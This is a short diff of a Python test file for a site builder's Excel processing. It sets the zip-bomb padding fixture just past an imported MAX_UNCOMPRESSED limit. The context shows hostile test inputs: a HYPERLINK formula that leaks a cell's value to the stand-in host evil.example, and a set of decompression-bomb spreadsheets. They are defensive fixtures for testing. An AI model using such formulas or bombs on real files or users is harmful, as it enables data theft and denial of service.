@@ -9,6 +9,8 @@ from pathlib import Path
 import openpyxl
 import pytest
 
+from site_builder.office.excel.zipcheck import MAX_UNCOMPRESSED
+
 from conftest import invoke
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B4,"点击")'
@@ -72,7 +74,9 @@ BOMBS = {
         b'<mergeCells count="1"><mergeCell ref="A1:CV4000"/></mergeCells></worksheet>',
     ),
     "compressed padding": lambda xml: xml.replace(
-        b"</worksheet>", b" " * 300_000_000 + b"</worksheet>"
+        # Just past the limit: compressing more spaces only makes the test slower.
+        b"</worksheet>",
+        b" " * (MAX_UNCOMPRESSED + 1_000_000) + b"</worksheet>",
     ),
     "many cells": lambda xml: xml.replace(
         b"</sheetData>",
